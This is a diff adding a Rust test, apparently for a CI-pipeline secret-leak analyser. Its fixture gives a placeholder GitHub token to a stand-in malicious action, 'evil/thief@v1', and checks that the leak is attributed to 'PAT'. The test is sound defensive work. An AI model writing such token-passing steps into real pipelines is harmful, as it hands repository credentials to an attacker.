@@ -355,6 +355,15 @@ fn literal_credentials_are_named_and_never_shown() {
     assert!(!shown.contains("ghp_") && !shown.contains("a8f5f167"));
 }
 
+#[test]
+fn a_literal_keeps_its_first_name() {
+    let pipeline = World::ci(&job("    env: {PAT: ghp_0123456789abcdefghijklmnopqrstuvwxyz}
+    steps: [{uses: evil/thief@v1, with: {token: '${{ env.PAT }}'}}]
+"))
+    .read();
+    assert_eq!(thief(&pipeline), "PAT:K1");
+}
+
 /// From the file to the line of a report.
 #[test]
 fn the_end_of_the_way() {
